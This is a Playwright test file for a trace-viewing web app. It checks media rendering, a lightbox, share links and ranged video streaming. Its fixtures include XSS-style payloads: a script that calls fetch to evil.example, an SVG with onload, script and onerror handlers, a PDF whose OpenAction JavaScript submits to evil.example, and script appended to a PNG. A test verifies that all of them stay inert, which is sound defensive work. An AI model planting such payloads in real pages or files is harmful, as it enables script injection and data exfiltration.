import { type Page } from "@playwright/test";
import { paths } from "@/lib/paths";
import { createShare } from "@/lib/services/sharing/shares/create-share";
import { expect, test } from "./harness/test";
import { upload } from "./harness/workspace";

declare global {
  interface Window {
    mediaWasHere?: number;
  }
}

const png = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
  "base64",
);
const script = `<script>window.mediaWasHere=1;fetch("https://evil.example/x")</script>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.mediaWasHere=2"><script>window.mediaWasHere=3</script><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="https://evil.example/a.png" onerror="window.mediaWasHere=4"/></body></foreignObject></svg>`;
const pdf = `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("https://evil.example/"\\))>>>>endobj\ntrailer<</Root 1 0 R>>\n`;
/** Two seconds of silence. */
const wav = ((): Buffer => {
  const head = Buffer.alloc(44);
  head.write("RIFF", 0);
  head.writeUInt32LE(36 + 16_000, 4);
  head.write("WAVEfmt ", 8);
  head.writeUInt32LE(16, 16);
  head.writeUInt16LE(1, 20);
  head.writeUInt16LE(1, 22);
  head.writeUInt32LE(8_000, 24);
  head.writeUInt32LE(8_000, 28);
  head.writeUInt16LE(1, 32);
  head.writeUInt16LE(8, 34);
  head.write("data", 36);
  head.writeUInt32LE(16_000, 40);
  return Buffer.concat([head, Buffer.alloc(16_000, 128)]);
})();
const video = (size: number): Buffer =>
  Buffer.concat([Buffer.from("\0\0\0\x18ftypisom\0\0\0\0isommp42", "latin1"), Buffer.alloc(size)]);

const file = (type: string, name: string, bytes: Buffer | string) => ({
  type: "file",
  file: { filename: name, file_data: `data:${type};base64,${Buffer.from(bytes).toString("base64")}` },
});
const traceOf = (question: string, content: unknown[]) => ({
  messages: [
    { role: "user", content: [{ type: "text", text: question }, ...content] },
    { role: "assistant", content: "It is a hive." },
  ],
});

/** Everything that must not happen while hostile files are on screen. */
function watch(page: Page, baseURL: string): () => Promise<void> {
  const seen: string[] = [];
  page.on("dialog", (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    if (!request.url().startsWith(baseURL) && !/^(?:data|blob):/.test(request.url())) seen.push(request.url());
  });
  page.on("pageerror", (error) => seen.push(`error: ${error.message}`));
  return async () => {
    expect(seen).toEqual([]);
    expect(await page.evaluate(() => window.mediaWasHere)).toBeUndefined();
  };
}

test("media is shown with its step, large on a click, and plays", { tag: "@smoke" }, async ({ page, workspace }) => {
  const [trace] = await upload(
    page.request,
    workspace,
    traceOf("What is this?", [
      file("image/png", "hive.png", png),
      file("image/png", "comb.png", Buffer.concat([png, Buffer.from("2")])),
      file("audio/wav", "hum.wav", wav),
      file("application/pdf", "report.pdf", pdf),
      { type: "image_url", image_url: { url: "https://pictures.example/far.png" } },
    ]),
  );
  const asked: string[] = [];
  page.on("request", (request) => void asked.push(request.url()));
  await page.goto(paths.trace(workspace.slug, trace?.id ?? "", { step: 0 }));
  const media = page.locator("#step-0").getByRole("list", { name: "Media" });
  await expect(media.getByRole("listitem")).toHaveCount(5);
  const first = media.getByRole("button", { name: /^Image: hive\.png, image\/png, 70 B/ });
  await expect.poll(() => first.locator("img").evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1);
  const far = media.getByRole("link", { name: /Open on pictures\.example/ });
  await expect(far).toHaveAttribute("rel", /noreferrer/);
  await expect(media.getByRole("link", { name: /^Document: report\.pdf/ })).toHaveAttribute("download", "report.pdf");
  expect(asked.filter((url) => url.includes("pictures.example"))).toEqual([]);

  await first.click();
  const dialog = page.getByRole("dialog");
  await expect(dialog).toContainText("1 of 2");
  await page.keyboard.press("ArrowRight");
  await expect(dialog).toContainText("2 of 2");
  await expect(dialog.getByRole("img", { name: /comb\.png/ })).toBeVisible();
  await page.keyboard.press("ArrowLeft");
  await expect(dialog).toContainText("1 of 2");
  await page.keyboard.press("Escape");
  await expect(dialog).toBeHidden();
  await expect(page).toHaveURL(/step=0/);

  const audio = media.locator("audio");
  await audio.evaluate(async (element: HTMLAudioElement) => {
    element.muted = true;
    await element.play();
  });
  await expect.poll(() => audio.evaluate((element: HTMLAudioElement) => Math.round(element.duration))).toBe(2);
});

test("hostile files are inert, on the page and by their addresses", async ({ page, workspace, baseURL }) => {
  const [trace] = await upload(
    page.request,
    workspace,
    traceOf("Look at these.", [
      file("image/svg+xml", "a.svg", svg),
      file("image/png", "b.png", svg),
      file("image/png", "c.png", Buffer.concat([png, Buffer.from(script)])),
      file("image/jpeg", "d.html", `<!doctype html>${script}`),
      file("application/pdf", "e.pdf", pdf),
      { type: "image_url", image_url: { url: "https://evil.example/far.png" } },
    ]),
  );
  const traceId = trace?.id ?? "";
  const nothingHappened = watch(page, baseURL ?? "");
  await page.goto(paths.trace(workspace.slug, traceId, { step: 0 }));
  const media = page.locator("#step-0").getByRole("list", { name: "Media" });
  await expect(media.getByRole("listitem")).toHaveCount(6);
  await expect(media.locator("img")).toHaveCount(1);
  await media.getByRole("button", { name: /^Image: c\.png/ }).click();
  await expect(page.getByRole("dialog").getByRole("img")).toBeVisible();
  await page.keyboard.press("Escape");
  await nothingHappened();

  const response = await page.request.get(`/api/v1/traces/${traceId}/steps?workspace=${workspace.slug}`);
  const { steps } = (await response.json()) as { steps: { media?: { sha256?: string }[] }[] };
  const hashes = steps.flatMap((step) => step.media?.flatMap(({ sha256 }) => sha256 ?? []) ?? []);
  expect(hashes).toHaveLength(5);
  // Not the page that waits for scripts: none may run here.
  const opened = await page.context().newPage();
  const nothingRan = watch(opened, baseURL ?? "");
  for (const sha256 of hashes) {
    const address = `/api/v1/traces/${traceId}/media/${sha256}?workspace=${workspace.slug}`;
    const answer = await page.request.get(address);
    expect(answer.headers()).toMatchObject({ "x-content-type-options": "nosniff" });
    expect(answer.headers()["content-security-policy"]).toContain("sandbox");
    expect(answer.headers()["content-type"]).toMatch(/^(?:image\/png|application\/(?:pdf|octet-stream))$/);
    await opened.goto(address).catch(() => undefined); // what is saved is no page
    await nothingRan();
  }
});

test("a link shows the media of its trace to whoever has it", async ({ page, workspace, browser, baseURL }) => {
  const [trace] = await upload(page.request, workspace, traceOf("And this?", [file("image/png", "hive.png", png)]));
  const settings = { runIds: [], hasLabels: false, hasIncident: false, hidesAgents: false, hidesExpectedAnswer: false };
  for (const passphrase of [null, "a long passphrase"]) {
    const wish = {
      traceId: trace?.id ?? "",
      expiresInHours: 1,
      passphrase,
      settings: { ...settings, isMasked: false },
    };
    const { token } = await createShare(workspace.ctx, wish);
    const reader = await browser.newPage({ baseURL: baseURL ?? "" });
    await reader.goto(paths.share(token));
    if (passphrase !== null) {
      await reader.getByLabel("Passphrase").fill(passphrase);
      await reader.keyboard.press("Enter");
    }
    const image = reader.locator("#step-0").getByRole("list", { name: "Media" }).locator("img");
    await expect.poll(() => image.evaluate((shown: HTMLImageElement) => shown.naturalWidth)).toBe(1);
    await reader.close();
  }
});

test("a video of 50 MB is asked for only where it is played, and in part", async ({ page, workspace }) => {
  test.slow();
  const size = 50_000_000;
  const [trace] = await upload(page.request, workspace, traceOf("Watch.", [file("video/mp4", "a.mp4", video(size))]));
  const asked: string[] = [];
  page.on("request", (request) => void asked.push(request.url()));
  await page.goto(paths.trace(workspace.slug, trace?.id ?? "", { step: 0 }));
  const player = page.locator("#step-0 video");
  await expect(player).toBeVisible();
  const address = (await player.getAttribute("src")) ?? "";
  expect(asked.filter((url) => url.includes(address))).toEqual([]);
  const part = await page.request.get(address, { headers: { range: "bytes=49999990-49999999" } });
  expect([part.status(), part.headers()["content-range"]]).toEqual([206, `bytes 49999990-49999999/${size + 24}`]);
  expect((await part.body()).byteLength).toBe(10);
});
